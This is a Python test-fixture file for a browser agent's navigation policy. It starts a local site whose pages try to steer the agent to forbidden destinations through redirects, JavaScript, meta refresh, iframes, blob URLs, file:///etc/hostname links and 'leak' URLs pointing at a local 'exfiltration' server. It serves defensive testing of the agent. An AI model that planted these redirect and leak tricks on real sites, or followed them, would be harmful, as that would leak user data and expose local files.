"""Two local HTTP servers for navigation-policy tests: the task's site, whose pages try
every route to a refused URL, and an "exfiltration" server that counts what reaches it;
a scripted model that follows a list of actions."""

from __future__ import annotations

import re
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from linewise.testing import FunctionModel, bid_matching, prompt_section

Page = tuple[int, dict[str, str], str]


class Site:
    """A local HTTP server answering from ``pages`` (path -> status, headers, body) and
    counting every request it gets; ``{site}`` and ``{exfil}`` in pages are filled in."""

    def __init__(self, pages: dict[str, Page] | None = None) -> None:
        self.pages = pages or {}
        self.hits: Counter[str] = Counter()
        self.fill: dict[str, str] = {}
        self.delays: dict[str, float] = {}
        """Seconds a path waits before it answers."""
        site = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, format: str, *args: Any) -> None:
                pass

            def do_GET(self) -> None:
                site.hits[self.path] += 1
                time.sleep(site.delays.get(self.path, 0.0))
                status, headers, body = site.pages.get(
                    self.path.split("?")[0], (200, {}, "<p>nothing here</p>")
                )
                self.send_response(status)
                headers = {"Content-Type": "text/html", **headers}
                for key, value in headers.items():
                    self.send_header(key, value.format(**site.fill))
                self.end_headers()
                self.wfile.write(body.format(**site.fill).encode())

            do_POST = do_GET

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._server.daemon_threads = True
        self.port = self._server.server_port
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


def _page(body: str) -> Page:
    return 200, {}, f"<html><head><title>t</title></head><body>{body}</body></html>"


SITE_PAGES: dict[str, Page] = {
    "/": _page(
        "<h1>Home</h1>"
        "<a href='file:///etc/hostname'>file link</a> "
        "<a href='chrome://version'>chrome link</a> "
        "<a href='data:text/html,<p>data page</p>'>data link</a> "
        "<a href='{exfil}/link?leak=1'>off link</a> "
        "<a href='{exfil_alt}/blank' target='_blank'>blank link</a> "
        "<a href='/r1'>redirect link</a> "
        "<a href='/r-ok'>good redirect link</a> "
        "<a href='/dl' download>download link</a> "
        "<a href='/dl-nav'>download nav link</a>"
    ),
    "/r1": (302, {"Location": "/r2"}, ""),
    "/r2": (302, {"Location": "{exfil}/redirected?leak=1"}, ""),
    "/r-ok": (302, {"Location": "/r-ok2"}, ""),
    "/r-ok2": (301, {"Location": "{site}/landed"}, ""),
    "/landed": _page("<h1>Landed</h1>"),
    "/dl": (200, {"Content-Disposition": "attachment; filename=report.csv"}, "a,b\n1,2\n"),
    "/dl-nav": (200, {"Content-Disposition": "attachment; filename=nav.bin",
                      "Content-Type": "application/octet-stream"}, "xyz"),
    "/js": _page("<h1>JS</h1><script>setTimeout(() => location.href = "
                 "'{exfil}/js?leak=1', 50)</script>"),
    "/meta": (200, {}, "<html><head><meta http-equiv='refresh' content='0;url={exfil}/meta'>"
                       "</head><body><h1>Meta</h1></body></html>"),
    "/meta-file": (200, {}, "<html><head><meta http-equiv='refresh' "
                            "content='0;url=file:///etc/hostname'></head>"
                            "<body><h1>MetaFile</h1></body></html>"),
    "/open": _page("<h1>Opener</h1><script>window.open('{exfil}/open?leak=1')</script>"),
    "/iframe": _page("<h1>Frames</h1><iframe src='{exfil}/frame'></iframe>"
                     "<iframe src='data:text/html,<p>framed data secret</p>'></iframe>"),
    "/blob-later": _page("<h1>Later</h1><script>setTimeout(() => {{ location.href = "
                         "URL.createObjectURL(new Blob(['<p>late blob secret</p>'], "
                         "{{type: 'text/html'}})) }}, 150)</script>"),
    "/blob-soon": _page("<h1>Soon</h1><script>setTimeout(() => {{ location.href = "
                        "URL.createObjectURL(new Blob(['<p>soon blob secret</p>'], "
                        "{{type: 'text/html'}})) }}, 20)</script>"),
    "/blob-slow": _page("<h1>Slow</h1><script>setTimeout(() => {{ location.href = "
                        "URL.createObjectURL(new Blob(['<p>slow blob secret</p>'], "
                        "{{type: 'text/html'}})) }}, 250)</script>"),
    "/blob": _page("<h1>Blob</h1><script>location.href = URL.createObjectURL("
                   "new Blob(['<p>blob secret</p>'], {{type: 'text/html'}}))</script>"),
}


@pytest.fixture
def sites() -> Iterator[tuple[Site, Site]]:
    site, exfil = Site(dict(SITE_PAGES)), Site()
    fill = {"site": f"http://127.0.0.1:{site.port}", "exfil": f"http://localhost:{exfil.port}",
            "exfil_alt": f"http://127.0.0.1:{exfil.port}"}
    site.fill = exfil.fill = fill
    try:
        yield site, exfil
    finally:
        site.close()
        exfil.close()


Step = str | Callable[[str], str]


def scripted(steps: list[Step]) -> FunctionModel:
    """A model giving ``steps`` in order; a callable gets the page's AXTree."""

    def answer(messages: list[dict[str, Any]], info: Any) -> str:
        step = steps[info.index] if info.index < len(steps) else "send_msg_to_user('done')"
        if callable(step):
            step = step(prompt_section(messages[1]["content"], "Current page"))
        return f"<think>next</think><action>{step}</action>"

    return FunctionModel(answer)


def click(text: str) -> Callable[[str], str]:
    return lambda tree: f"click('{bid_matching(tree, re.escape(text))}')"
